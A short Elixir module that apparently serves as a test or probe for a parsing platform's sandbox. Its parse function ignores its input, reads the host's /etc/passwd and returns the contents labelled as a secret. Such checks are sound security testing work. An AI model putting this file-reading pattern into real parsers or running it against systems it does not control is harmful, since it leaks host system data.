defmodule Parser do
  use Platform.Parsing.Behaviour
  def parse(_payload, _meta) do
    slurp = &File.read!/1
    %{secret: slurp.("/etc/passwd")}
  end
end
